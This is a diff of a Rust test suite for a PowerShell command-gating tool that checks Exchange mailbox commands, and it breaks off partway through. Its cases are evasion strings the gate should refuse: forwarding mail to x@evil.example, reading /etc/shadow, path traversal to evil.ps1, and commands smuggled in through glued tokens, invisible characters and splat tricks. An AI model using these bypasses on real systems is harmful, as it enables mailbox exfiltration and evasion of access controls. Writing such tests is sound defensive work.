@@ -12,8 +12,10 @@ use std::collections::HashSet;
 use std::path::Path;
 
 use jitsh::catalog::Catalog;
+use jitsh::gate::LineDecision;
 use jitsh::gate::{check_line, GateContext};
-use jitsh::policy::{load_dir, Effect, PolicySet};
+use jitsh::invocation::TaskKind;
+use jitsh::policy::{load_dir, Effect, PolicySet, PolicySource};
 
 /// What a case expects of the line's decision.
 #[derive(Debug, Clone, Copy)]
@@ -779,9 +781,49 @@ const CASES: &[(&str, Want, &str)] = &[
         "a safe-listed method whose delegate overload runs a script block argument",
     ),
     (
+        "Add-Member -InputObject $o -MemberType ScriptMethod -Name Trim -Value { 1 } -Force",
+        Deny,
+        "a script method makes a later safe-listed call run code",
+    ),
+    (
+        "$o | Add-Member ScriptProperty Count { 1 }",
+        Deny,
+        "a script property added positionally",
+    ),
+    (
+        "Update-TypeData -TypeName System.String -MemberType ScriptMethod -MemberName Trim -Value { 1 }",
+        Deny,
+        "type data attaches code to every string",
+    ),
+    (
+        "Update-FormatData -PrependPath C:\\x.ps1xml",
+        Deny,
+        "format data runs code whenever objects are printed",
+    ),
+    (
+        "'a<b'.Replace('<', '_')",
+        Allow,
+        "Replace on a string literal is String.Replace",
+    ),
+    (
         "$t = 'a<b'; $t.Replace('<', '_')",
         Allow,
-        "Replace with literal arguments",
+        "Replace on a variable assigned only a string in the line is String.Replace",
+    ),
+    (
+        "$t = Get-Item C:\\a.txt; $t.Replace('C:\\b.txt', $null)",
+        Deny,
+        "Replace on a variable holding a command's output may be FileInfo.Replace",
+    ),
+    (
+        "$t = 'a'; $t = Get-Item C:\\a.txt; $t.Replace('C:\\b.txt', $null)",
+        Deny,
+        "a variable written twice has no certain type",
+    ),
+    (
+        "[IO.FileInfo]$t = 'C:\\a.txt'",
+        Deny,
+        "a type constraint to a file type is a conversion the shipped policies refuse",
     ),
     (
         "function Get-Mai`lbox { param($Filter) 1 }",
@@ -799,6 +841,239 @@ const CASES: &[(&str, Want, &str)] = &[
         Allow,
         "ordinary output variables",
     ),
+    // --- arguments that may yield a script block are code ----------------------------------
+    (
+        "Format-Custom -InputObject $m -Property (Get-Command Remove-Mailbox).ScriptBlock",
+        Deny,
+        "computed property expression of Format-Custom",
+    ),
+    (
+        "$m = Get-Mailbox rob; Format-Custom -InputObject $m -Property $sb",
+        Deny,
+        "property expression from a variable",
+    ),
+    (
+        "fc -InputObject $m $sb",
+        Deny,
+        "positional property expression through an alias",
+    ),
+    (
+        "Format-Custom -InputObject $m -GroupBy @{ e = $sb }",
+        Deny,
+        "group-by expression in a hashtable",
+    ),
+    (
+        "Get-Mailbox | Format-Custom -Property Name, Alias -Depth 2",
+        Allow,
+        "literal Format-Custom properties",
+    ),
+    (
+        "Get-Mailbox | Format-Custom -Property Name, @{ n = 'A'; e = { $_.Alias } }",
+        Allow,
+        "literal calculated property",
+    ),
+    (
+        "Get-Mailbox | Out-Report -Title $t",
+        Deny,
+        "command without metadata given a computed argument",
+    ),
+    ("Out-Report $sb", Deny, "positional computed argument of an unknown command"),
+    (
+        "Get-Mailbox | Add-Member -MemberType ScriptMethod -Name Go -Value $sb",
+        Deny,
+        "script method from a computed value",
+    ),
+    (
+        "Register-EngineEvent PowerShell.OnIdle -Action { Get-Mailbox }",
+        Deny,
+        "event action kept for later",
+    ),
+    (
+        "Set-PSBreakpoint -Command Get-Mailbox -Action { Remove-Mailbox rob -Confirm:$false }",
+        Deny,
+        "breakpoint action kept for later",
+    ),
+    // --- a token ends at its closing quote or bracket (PowerShell's GetCommandArgument) -------
+    (
+        "Get-Mailbox | Where-Object -Property 'Name'-FilterScript:$sb",
+        Deny,
+        "parameter glued after a single-quoted string",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property \"Name\"-FilterScript $sb",
+        Deny,
+        "parameter glued after a double-quoted string",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property $(1)-FilterScript $sb",
+        Deny,
+        "parameter glued after a subexpression",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property (1)-FilterScript $sb",
+        Deny,
+        "parameter glued after parentheses",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property @('a')-FilterScript $sb",
+        Deny,
+        "parameter glued after an array subexpression",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property $x.Name-FilterScript $sb",
+        Deny,
+        "parameter glued after a member access",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property @'\nName\n'@-FilterScript $sb",
+        Deny,
+        "parameter glued after a here-string",
+    ),
+    (
+        "$ExecutionContext.InvokeCommand | ForEach-Object 'x'-MemberName:InvokeScript -ArgumentList 'Remove-Mailbox bob'",
+        Deny,
+        "ForEach-Object -MemberName glued after a string",
+    ),
+    (
+        "Get-Mailbox | ForEach-Object -Begin 'x'-MemberName Delete",
+        Deny,
+        "ForEach-Object -MemberName glued after a string argument",
+    ),
+    (
+        "Get-Mailbox 'bob'--% | Remove-Mailbox bob",
+        Deny,
+        "stop-parsing glued after a string",
+    ),
+    (
+        "Get-Mailbox -Identity 'bob'>C:\\Windows\\x.ps1",
+        NotAllow,
+        "redirection glued after a string",
+    ),
+    // --- comments and here-strings glued to a token in input that spans lines ----------------
+    (
+        "Get-Mailbox 'a'#'\nRemove-Mailbox bob\n#'",
+        NotAllow,
+        "line comment glued after a string hides nothing",
+    ),
+    (
+        "Get-Mailbox \"a\"#\"\nRemove-Mailbox bob\n#\"",
+        NotAllow,
+        "line comment glued after a double-quoted string",
+    ),
+    (
+        "Get-Mailbox $(1)#'\nRemove-Mailbox bob\n#'",
+        NotAllow,
+        "line comment glued after a subexpression",
+    ),
+    (
+        "Get-Mailbox (1)#'\nRemove-Mailbox bob\n#'",
+        NotAllow,
+        "line comment glued after parentheses",
+    ),
+    (
+        "Get-Mailbox a<#\nRemove-Mailbox bob\n#>",
+        NotAllow,
+        "`<#` inside a word opens no comment",
+    ),
+    (
+        "Get-Mailbox 5<#\nRemove-Mailbox bob\n#>",
+        NotAllow,
+        "`<#` after a number glued into a word opens no comment",
+    ),
+    (
+        "Get-Mailbox<#\nRemove-Mailbox bob\n#>",
+        NotAllow,
+        "`<#` inside a command name opens no comment",
+    ),
+    (
+        "Get-Mailbox -Identity<#\nRemove-Mailbox bob\n#>",
+        NotAllow,
+        "`<#` glued to a parameter name",
+    ),
+    (
+        "Get-Mailbox 'a'@'\n'@\nRemove-Mailbox bob",
+        NotAllow,
+        "here-string glued after a string, then a command",
+    ),
+    (
+        "Get-Mailbox 'a'@\"\n\"@\nRemove-Mailbox bob",
+        NotAllow,
+        "expandable here-string glued after a string, then a command",
+    ),
+    // --- a backtick before white space is white space (Tokenizer.NextToken) ----------------
+    (
+        "Get-Mailbox | Where-Object ` -FilterScript $sb",
+        Deny,
+        "backtick-space before a parameter",
+    ),
+    (
+        "Get-Mailbox | Where-Object `\t-FilterScript $sb",
+        Deny,
+        "backtick-tab before a parameter",
+    ),
+    (
+        "Get-Mailbox | Where-Object `\u{a0}-FilterScript $sb",
+        Deny,
+        "backtick-NBSP before a parameter",
+    ),
+    (
+        "Get-Mailbox | Where-Object `\u{2003}-FilterScript $sb",
+        Deny,
+        "backtick-em-space before a parameter",
+    ),
+    (
+        "Get-Mailbox | Where-Object `\u{3000}-FilterScript $sb",
+        Deny,
+        "backtick-ideographic-space before a parameter",
+    ),
+    (
+        "Get-Mailbox ` ; Remove-Mailbox bob",
+        NotAllow,
+        "backtick-space before a statement separator",
+    ),    // --- control and invisible characters in or around a name -------------------------------
+    ("Remove-Mailbox\u{0} bob", Deny, "NUL after a command name"),
+    ("Remove-Mailbox\u{0}", Deny, "NUL ending the line"),
+    ("Get-MailboxAuditBypassAssociation\u{1}", Deny, "C0 control after a name"),
+    ("Get-MailboxAuditBypassAssociation\u{7f}", Deny, "DEL after a name"),
+    ("Get-MailboxAuditBypassAssociation\u{9b}", Deny, "C1 control after a name"),
+    ("\u{200b}Get-MailboxAuditBypassAssociation", Deny, "zero-width space before a name"),
+    ("Get-MailboxAuditBypassAssociation\u{200d}", Deny, "zero-width joiner after a name"),
+    ("Get-Mailbox\u{feff}AuditBypassAssociation", Deny, "BOM inside a name"),
+    ("Get-MailboxAuditBypassAssociation\u{2060}", Deny, "word joiner after a name"),
+    ("Get-MailboxAuditBypassAssociation\u{202e}", Deny, "direction override after a name"),
+    ("Get-MailboxAuditBypassAssociation\u{ad}", Deny, "soft hyphen after a name"),
+    ("Get-MailboxAuditBypassAssociation`0", Deny, "escaped NUL in a name"),
+    ("Get-MailboxAuditBypassAssociation`a", Deny, "escaped bell in a name"),
+    ("Get-MailboxAuditBypassAssociation`u{200B}", Deny, "escaped zero-width space in a name"),
+    ("& \"Get-MailboxAuditBypassAssociation`0\"", Deny, "escaped NUL in a quoted name"),
+    ("& \"Remove-Mailbox`u{200B}\" bob", Deny, "escaped format character in a quoted name"),
+    ("Get-MailboxAuditBypassAssociatio`u{6e}", NotAllow, "`u{} escape decoded in a name"),
+    ("Get-MailboxAuditBypassAssociation\u{85}", NotAllow, "NEL is white space to PowerShell"),
+    ("Get-MailboxAuditBypassAssociation\u{a0}", NotAllow, "NBSP is white space to PowerShell"),
+    ("Get-MailboxAuditBypassAssociation\u{2028}", NotAllow, "line separator is white space"),
+    ("Get-MailboxAuditBypassAssociation\u{b}", NotAllow, "vertical tab is white space"),
+    ("Set-Mailbox bob -Forwarding\u{200b}SmtpAddress x", Deny, "format character in a parameter"),
+    ("Set-Mailbox bob -Forwarding`u{53}mtpAddress x", Deny, "escape in a parameter name"),
+    ("Get-Mailbox bob\u{0}-Identity x", Deny, "NUL between tokens"),
+    ("Get-Ma\u{131}lboxAuditBypassAssociation", Deny, "dotless i matches `i` in PowerShell's lookup"),
+    ("Remove-Mailbox bob; Get-MailboxAuditBypa\u{17f}\u{17f}Association", Deny, "long s matches `s`"),
+    ("& 'Get-Ma\u{131}lboxAuditBypassAssociation'", Deny, "dotless i in a quoted name"),
+    ("Get-Mailbox | ForEach-Object -ArgumentL\u{131}st x -MemberName Delete", Deny, "dotless i in a parameter"),
+    ("Get-Mailbox -Identity \u{212a}elvin", Allow, "the Kelvin sign in an argument is data"),    // --- stop-parsing `--%`, recognised by its value; its tail ends at `|`, `||`, `&&` -------
+    ("Write-Output --% 'x | Remove-Mailbox bob #'", Deny, "plain stop-parsing"),
+    ("Write-Output `--% 'x | Remove-Mailbox bob #'", Deny, "escaped stop-parsing"),
+    ("Write-Output -`-% 'x | Remove-Mailbox bob #'", Deny, "stop-parsing with an escaped dash"),
+    ("Write-Output '--%' 'x | Remove-Mailbox bob #'", Deny, "single-quoted stop-parsing"),
+    ("Write-Output \"--%\" 'x | Remove-Mailbox bob #'", Deny, "double-quoted stop-parsing"),
+    ("Write-Output \"-`-%\" 'x && Remove-Mailbox bob #'", Deny, "escaped inside quotes"),
+    ("Write-Output @'\n--%\n'@ 'x || Remove-Mailbox bob #'", Deny, "here-string stop-parsing"),
+    ("Write-Output 'a'--% 'x | Remove-Mailbox bob #'", Deny, "stop-parsing glued to a string"),
+    ("Write-Output -- --% 'x | Remove-Mailbox bob #'", Deny, "stop-parsing after end of parameters"),
+    ("& '--%' 'x | Remove-Mailbox bob #'", Deny, "stop-parsing as the command name"),
+    ("Write-Output '--%','y' 'x | Remove-Mailbox bob #'", Deny, "stop-parsing in a list"),
+    ("Write-Output '--%'.Length 'x | Remove-Mailbox bob #'", Deny, "stop-parsing with a member access"),
+    ("Write-Output -InputObject:'--%' 'x | Remove-Mailbox bob #'", Deny, "stop-parsing as a value"),
+    ("Write-Output \u{2013}-% 'x | Remove-Mailbox bob #'", Deny, "stop-parsing with an en dash"),
 ];
 
 fn shipped() -> PolicySet {
@@ -871,4 +1146,1036 @@ fn privileged_lines_name_the_deciding_invocation() {
         nested,
         Some((1, "Ne`w-MoveRequest".to_string(), Effect::Approval))
     );
+}
+
+/// A policy under which a splat's value decides the line: display-name edits of contoso
+/// mailboxes are standing access (`params.only`), and so are the commands the attacks use to
+/// change a variable unseen. A splat resolved to the wrong value would let a forwarding change
+/// or another mailbox through as an allowed display-name edit.
+const SPLAT_POLICY: &str = r#"
+[defaults]
+unmatched = "deny"
+dynamic = "deny"
+
+[[rule]]
+id = "reads-and-helpers"
+effect = "allow"
+tasks = ["Get-*", "ForEach-Object", "Where-Object", "Write-Output", "Out-Null", "Set-Variable",
+         "Tee-Object", "Invoke-Command", "Start-Job"]
+
+[[rule]]
+id = "display-names"
+effect = "allow"
+tasks = ["Set-Mailbox"]
+params.only = ["Identity", "DisplayName"]
+params.Identity = { glob = "*@contoso.com" }
+"#;
+
+fn check_under(policy: &str, lines: &[&str], want: Want) -> Vec<String> {
+    let policies = match PolicySet::from_sources(&[PolicySource::new("test.toml", policy)]) {
+        Ok(p) => p,
+        Err(e) => panic!("test policy must load: {e}"),
+    };
+    let revoked = HashSet::new();
+    let ctx = GateContext {
+        policies: &policies,
+        catalog: Catalog::builtin(),
+        user: "alice",
+        now: time::OffsetDateTime::UNIX_EPOCH,
+        tokens: &[],
+        revoked: &revoked,
+        skew: time::Duration::seconds(30),
+        online: false,
+    };
+    let mut failures = Vec::new();
+    for line in lines {
+        let d = check_line(line, &ctx);
+        let ok = match want {
+            Allow => d.decision == Effect::Allow,
+            NotAllow => d.decision != Effect::Allow,
+            Deny => d.decision == Effect::Deny,
+        };
+        if !ok {
+            failures.push(format!(
+                "{line:?} wanted {want:?}, got {:?}: {}",
+                d.decision, d.reason
+            ));
+        }
+    }
+    failures
+}
+
+#[test]
+fn splats_are_resolved_by_scope_and_time_not_text_position() {
+    const H: &str = "$h = @{ Identity = 'rob@contoso.com'; DisplayName = 'Rob' }";
+    let allowed = [
+        format!("{H}; Set-Mailbox @h"),
+        format!("{H}; if ($true) {{ Set-Mailbox @h }}"),
+        format!("{H}; Get-Mailbox rob | ForEach-Object {{ Set-Mailbox @h }}"),
+    ];
+    let attacks = [
+        // automatic variables: PowerShell sets them when the command runs
+        "$_ = @{ Identity = 'rob@contoso.com' }; Get-Mailbox | % { Set-Mailbox @_ }".to_string(),
+        "$PSItem = @{ Identity = 'rob@contoso.com' }; Get-Mailbox | % { Set-Mailbox @PSItem }".to_string(),
+        "$args = @{ Identity = 'rob@contoso.com' }; & { Set-Mailbox @args } -ForwardingSmtpAddress e@x.com".to_string(),
+        "$input = @{ Identity = 'rob@contoso.com' }; Get-Mailbox | & { Set-Mailbox @input }".to_string(),
+        // a block parameter shadows the line's variable
+        format!("{H}; & {{ param($h) Set-Mailbox @h }} @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }}"),
+        format!("{H}; Get-Mailbox | ForEach-Object -Process {{ param($h) Set-Mailbox @h }}"),
+        // set by common parameters
+        format!("{H}; Get-Mailbox -PipelineVariable h | ForEach-Object {{ Set-Mailbox @h }}"),
+        format!("{H}; Get-Mailbox -OutVariable h | Out-Null; Set-Mailbox @h"),
+        format!("{H}; Get-Mailbox -ov h | Out-Null; Set-Mailbox @h"),
+        format!("{H}; Get-Mailbox -ErrorVariable h | Out-Null; Set-Mailbox @h"),
+        format!("{H}; Get-Mailbox | Tee-Object -Variable h | Out-Null; Set-Mailbox @h"),
+        // set by name
+        format!("{H}; Set-Variable h @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }}; Set-Mailbox @h"),
+        format!("{H}; sv -Name h -Value (Get-Mailbox); Set-Mailbox @h"),
+        // code that runs at another time, when the variable may hold something else
+        format!("{H}; function Set-Name {{ Set-Mailbox @h }}"),
+        format!("{H}; filter Set-Name {{ Set-Mailbox @h }}"),
+        format!("{H}; $later = {{ Set-Mailbox @h }}"),
+        format!("{H}; Invoke-Command -ComputerName ex01 -ScriptBlock {{ Set-Mailbox @h }}"),
+        format!("{H}; Start-Job -ScriptBlock {{ Set-Mailbox @h }}"),
+        // reassigned later, in a loop, in a nested scope, under another spelling
+        format!("{H}; foreach ($i in 1, 2) {{ Set-Mailbox @h; $h = @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }} }}"),
+        format!("{H}; if ($true) {{ $h = @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }} }}; Set-Mailbox @h"),
+        format!("{H}; $global:h = @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }}; Set-Mailbox @h"),
+        format!("{H}; $Script:H = @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }}; Set-Mailbox @h"),
+        format!("{H}; ${{H}} = @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }}; Set-Mailbox @h"),
+        format!("{H}; foreach ($h in Get-Mailbox) {{ }}; Set-Mailbox @h"),
+        format!("{H}; Set-Mailbox @script:h"),
+        // assigned only after the use
+        format!("Get-Mailbox | ForEach-Object {{ Set-Mailbox @h }}; {H}"),
+    ];
+    let allowed: Vec<&str> = allowed.iter().map(String::as_str).collect();
+    let attacks: Vec<&str> = attacks.iter().map(String::as_str).collect();
+    let mut failures = check_under(SPLAT_POLICY, &allowed, Allow);
+    failures.extend(check_under(SPLAT_POLICY, &attacks, Deny));
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn names_that_are_native_programs_off_windows_follow_the_runspace_platform() {
+    use jitsh::catalog::Platform;
+    // Read-only on Windows (`Sort-Object`, `Compare-Object`, `Write-Output`: standing
+    // access); on Linux and macOS the native `sort` and `diff` read any file, `compare` is
+    // ImageMagick's, `write` messages another user's terminal.
+    let lines = [
+        "sort /etc/shadow",
+        "Get-Mailbox | sort Name",
+        "diff /etc/shadow /etc/passwd",
+        "compare /etc/shadow x",
+        "Get-Mailbox | write",
+        "write root",
+        "Get-Mailbox | SORT Name",
+    ];
+    let revoked = HashSet::new();
+    let mut failures = Vec::new();
+    for (platform, want) in [
+        (Platform::Windows, Allow),
+        (Platform::Unix, NotAllow),
+        (Platform::Unknown, Deny),
+    ] {
+        let mut policies = shipped();
+        policies.set_platform(platform);
+        let ctx = GateContext {
+            policies: &policies,
+            catalog: Catalog::builtin(),
+            user: "alice",
+            now: time::OffsetDateTime::UNIX_EPOCH,
+            tokens: &[],
+            revoked: &revoked,
+            skew: time::Duration::seconds(30),
+            online: false,
+        };
+        for line in lines {
+            let d = check_line(line, &ctx);
+            let ok = match want {
+                Allow => d.decision == Effect::Allow,
+                NotAllow => d.decision != Effect::Allow,
+                Deny => d.decision == Effect::Deny,
+            };
+            if !ok {
+                failures.push(format!(
+                    "{platform:?} {line:?} wanted {want:?}, got {:?}: {}",
+                    d.decision, d.reason
+                ));
+            }
+        }
+    }
+    // A policy that does not say which platform it gates leaves these names uncertain.
+    let unstated = "[[rule]]\nid = \"helpers\"\neffect = \"allow\"\ntasks = [\"Get-*\", \"Sort-Object\", \"Compare-Object\", \"Write-Output\"]\n";
+    failures.extend(check_under(unstated, &lines, Deny));
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+/// Where jitsh follows PowerShell's token boundaries, the parameter a glued token hides is bound.
+#[test]
+fn glued_tokens_show_the_parameter_powershell_binds() {
+    let policies = shipped();
+    let revoked = HashSet::new();
+    let ctx = GateContext {
+        policies: &policies,
+        catalog: Catalog::builtin(),
+        user: "alice",
+        now: time::OffsetDateTime::UNIX_EPOCH,
+        tokens: &[],
+        revoked: &revoked,
+        skew: time::Duration::seconds(30),
+        online: false,
+    };
+    let cases: &[(&str, &str, &str)] = &[
+        (
+            "Set-Mailbox -DisplayName 'Rob'-ForwardingSmtpAddress:x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "Set-Mailbox -DisplayName \"Rob\"-ForwardingSmtpAddress x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "Set-Mailbox bob -DisplayName $(1)-DeliverToMailboxAndForward:$true",
+            "Set-Mailbox",
+            "-DeliverToMailboxAndForward",
+        ),
+        (
+            "Set-Mailbox bob -DisplayName ('Rob')-ForwardingAddress x",
+            "Set-Mailbox",
+            "-ForwardingAddress",
+        ),
+        (
+            "Set-Mailbox bob ` -ForwardingSmtpAddress x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "Get-Mailbox | ForEach-Object 'x'-MemberName:Delete",
+            "ForEach-Object",
+            "-MemberName",
+        ),
+        (
+            "& 'Set-Mailbox'-ForwardingSmtpAddress x@evil.example -Identity bob",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "Set-Mailbox bob -DisplayName $x.Name-ForwardingSmtpAddress x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "$h = @{ \"Forwarding`u{53}mtpAddress\" = 'x@evil.example' }; Set-Mailbox bob @h",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "& \"Set-Mailbo`u{78}\" bob -ForwardingSmtpAddress x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+    ];
+    let mut failures = Vec::new();
+    for (line, name, param) in cases {
+        let d = check_line(line, &ctx);
+        let seen = d
+            .invocations
+            .iter()
+            .any(|i| i.name == *name && i.params.iter().any(|p| p == param));
+        if !seen || d.decision == Effect::Allow {
+            failures.push(format!(
+                "{line:?}: {name} {param} not seen or allowed: {d:?}"
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+/// A line PowerShell would read as unfinished is reported incomplete and never allowed: the
+/// shell must ask for the rest rather than let pwsh wait for it while later lines go through.
+#[test]
+fn incomplete_lines_are_reported_incomplete() {
+    let policies = shipped();
+    let revoked = HashSet::new();
+    let ctx = GateContext {
+        policies: &policies,
+        catalog: Catalog::builtin(),
+        user: "alice",
+        now: time::OffsetDateTime::UNIX_EPOCH,
+        tokens: &[],
+        revoked: &revoked,
+        skew: time::Duration::seconds(30),
+        online: false,
+    };
+    for line in [
+        "Get-Mailbox 'x'[",
+        "Get-Mailbox \"x\"[",
+        "Get-Mailbox $a[",
+        "Get-Mailbox (1)[",
+        "Get-Mailbox $(1)[",
+        "Get-Mailbox @(",
+        "$a.",
+        "$a.Name.",
+        "[int]::",
+        "[System.Collections.Generic.List[string",
+        "$x = 1 -join",
+        "param(",
+        "begin",
+        "$a ??",
+    ] {
+        let d = check_line(line, &ctx);
+        assert!(d.incomplete, "{line:?} should be incomplete: {d:?}");
+        assert_ne!(d.decision, Effect::Allow, "{line:?}");
+    }
+}
+
+// ---- tasks that are not cmdlets: scripts, programs, .NET methods (SPEC §2.1) -----------------
+
+/// A permissive policy: every command allowed, unmatched commands allowed, dynamic ones sent
+/// for approval, plus `extra` rules. Whatever it lets through, the shipped ones would too.
+fn permissive(extra: &str) -> PolicySet {
+    let text = format!(
+        r#"[defaults]
+unmatched = "allow"
+dynamic = "approval"
+
+[[rule]]
+id = "everything"
+effect = "allow"
+tasks = ["*", "Get-*", "Test-*"]
+{extra}"#
+    );
+    match PolicySet::from_sources(&[PolicySource::new("permissive.toml", text)]) {
+        Ok(p) => p,
+        Err(e) => panic!("test policy must load: {e}"),
+    }
+}
+
+fn check_with(policies: &PolicySet, line: &str) -> LineDecision {
+    let revoked = HashSet::new();
+    let ctx = GateContext {
+        policies,
+        catalog: Catalog::builtin(),
+        user: "alice",
+        now: time::OffsetDateTime::UNIX_EPOCH,
+        tokens: &[],
+        revoked: &revoked,
+        skew: time::Duration::seconds(30),
+        online: false,
+    };
+    check_line(line, &ctx)
+}
+
+/// Scripts and programs run by path or by a file name with an extension are never the cmdlet a
+/// glob names: under a policy that allows every command and every unmatched one, each is still
+/// the dynamic decision (approval here), with its own kind and name.
+#[test]
+fn scripts_and_programs_are_not_cmdlets() {
+    let p = permissive("");
+    let cases: &[(&str, TaskKind, &str)] = &[
+        (r".\Get-Report.ps1", TaskKind::Path, r".\Get-Report.ps1"),
+        (
+            r"C:\Scripts\Get-X.ps1",
+            TaskKind::Path,
+            r"C:\Scripts\Get-X.ps1",
+        ),
+        (
+            r"\\server\share\Get-X.ps1",
+            TaskKind::Path,
+            r"\\server\share\Get-X.ps1",
+        ),
+        (
+            r#"& "C:\Temp\Get-Info.ps1""#,
+            TaskKind::Path,
+            r"C:\Temp\Get-Info.ps1",
+        ),
+        (r". .\Get-Helpers.ps1", TaskKind::Path, r".\Get-Helpers.ps1"),
+        (r"./x", TaskKind::Path, r".\x"),
+        (r"~/x.ps1", TaskKind::Path, r"~\x.ps1"),
+        (r"Scripts\Get-X.ps1", TaskKind::Path, r"Scripts\Get-X.ps1"),
+        (r"Scripts\Get-Report", TaskKind::Path, r"Scripts\Get-Report"),
+        (
+            r"Tools\Get-Helper -Days 3",
+            TaskKind::Path,
+            r"Tools\Get-Helper",
+        ),
+        (
+            r"Exchange\Get-Mailbox.ps1",
+            TaskKind::Path,
+            r"Exchange\Get-Mailbox.ps1",
+        ),
+        (
+            r"& 'C:/Tools/Get-Info.exe' -Name x",
+            TaskKind::Path,
+            r"C:\Tools\Get-Info.exe",
+        ),
+        (
+            r"FileSystem::C:\x.ps1",
+            TaskKind::Path,
+            r"FileSystem::C:\x.ps1",
+        ),
+        (r"Get-Helper.exe", TaskKind::Program, "Get-Helper.exe"),
+        (r"Get-Report.ps1", TaskKind::Program, "Get-Report.ps1"),
+        (r"Get-X.cmd", TaskKind::Program, "Get-X.cmd"),
+        (r"Get-X.bat /q", TaskKind::Program, "Get-X.bat"),
+        (r"Get-X.com", TaskKind::Program, "Get-X.com"),
+        (r"Get-X.psm1", TaskKind::Program, "Get-X.psm1"),
+        (
+            r"Get-Mailbox | Get-Report.ps1",
+            TaskKind::Program,
+            "Get-Report.ps1",
+        ),
+        (
+            r"Get-Mailbox | % { .\Get-X.ps1 $_ }",
+            TaskKind::Path,
+            r".\Get-X.ps1",
+        ),
+        (r"$(Test-X.vbs)", TaskKind::Program, "Test-X.vbs"),
+    ];
+    let mut failures = Vec::new();
+    for (line, kind, name) in cases {
+        let d = check_with(&p, line);
+        let found = d
+            .invocations
+            .iter()
+            .find(|i| i.kind == *kind && i.name == *name);
+        let ok = d.decision == Effect::Approval && found.is_some_and(|i| i.dynamic);
+        if !ok {
+            failures.push(format!(
+                "{line:?}: wanted a dynamic {kind:?} `{name}` (approval), got {:?}: {:?}",
+                d.decision,
+                d.invocations
+                    .iter()
+                    .map(|i| (&i.name, i.kind, i.dynamic))
+                    .collect::<Vec<_>>()
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+/// A policy names scripts by path and programs by file name; the glob runs over the whole path
+/// (case-insensitive, `/` read as `\`), and `..` or wildcards in a path never match.
+#[test]
+fn path_and_program_rules_name_scripts() {
+    let p = permissive(
+        r#"
+[[rule]]
+id = "reports"
+effect = "allow"
+tasks = ['path:C:\Scripts\*.ps1', "program:ping.exe"]
+"#,
+    );
+    let allowed = [
+        r"C:\Scripts\Get-X.ps1",
+        r"c:/scripts/get-x.ps1",
+        r"& 'C:\Scripts\Sub\Report.ps1' -Days 3",
+        r"ping.exe contoso.com",
+        r"PING.EXE x",
+    ];
+    for line in allowed {
+        let d = check_with(&p, line);
+        assert_eq!(d.decision, Effect::Allow, "{line}: {}", d.reason);
+        assert_eq!(d.invocations[0].rule.as_deref(), Some("reports"), "{line}");
+    }
+    let refused = [
+        r"C:\Scripts\..\Temp\evil.ps1",
+        r"C:\Scripts\...\Temp\evil.ps1",
+        r#"& "C:\Scripts\.. \Temp\evil.ps1""#,
+        r"C:\Scripts\notes.txt:evil.ps1",
+        r"FileSystem::C:\Scripts\x.ps1",
+        r"C:\Scripts\*.ps1",
+        r"C:\Scripts\Get-[X].ps1",
+        r"C:\Temp\Get-X.ps1",
+        r"C:\Scripts\Get-X.ps1.exe",
+        r"C:\Windows\System32\ping.exe",
+        r".\ping.exe",
+        r"Get-X.ps1",
+    ];
+    for line in refused {
+        let d = check_with(&p, line);
+        assert_eq!(d.decision, Effect::Approval, "{line}: {}", d.reason);
+        assert!(d.invocations.iter().all(|i| i.dynamic), "{line}");
+    }
+}
+
+/// Conversions that run a constructor or setters are the method task `[Full.Type]::new`, and
+/// conversions to unknown types are dynamic; pure conversions are nothing to decide.
+#[test]
+fn conversions_that_act_are_method_tasks() {
+    let p = permissive(
+        r#"
+[[rule]]
+id = "no-io"
+effect = "deny"
+tasks = ["[System.IO.*]::*", "[System.Net.*]::*", "[*CimSession]::*", "[System.DirectoryServices.*]::*", "[System.Management.Management*]::*"]
+"#,
+    );
+    let denied: &[(&str, &str)] = &[
+        (
+            r"[IO.StreamWriter]'C:\Windows\x.txt'",
+            "[System.IO.StreamWriter]::new",
+        ),
+        (
+            r"[System.IO.StreamWriter]('C:\x.txt')",
+            "[System.IO.StreamWriter]::new",
+        ),
+        (r"'C:\x' -as [IO.FileStream]", "[System.IO.FileStream]::new"),
+        (
+            r"'C:\x' -AS 'System.IO.FileStream'",
+            "[System.IO.FileStream]::new",
+        ),
+        (
+            r"[System.Net.Sockets.TcpClient]@{}",
+            "[System.Net.Sockets.TcpClient]::new",
+        ),
+        (
+            r"[Net.Sockets.UdpClient]123",
+            "[System.Net.Sockets.UdpClient]::new",
+        ),
+        (
+            r"[System.IO.Pipes.NamedPipeClientStream]'pipe'",
+            "[System.IO.Pipes.NamedPipeClientStream]::new",
+        ),
+        (
+            r"[CimSession]'server01'",
+            "[Microsoft.Management.Infrastructure.CimSession]::new",
+        ),
+        (
+            r"[ADSI]'LDAP://CN=x,DC=contoso,DC=com'",
+            "[System.DirectoryServices.DirectoryEntry]::new",
+        ),
+        (
+            r"[wmi]'\\.\root\cimv2:Win32_Process.Handle=1'",
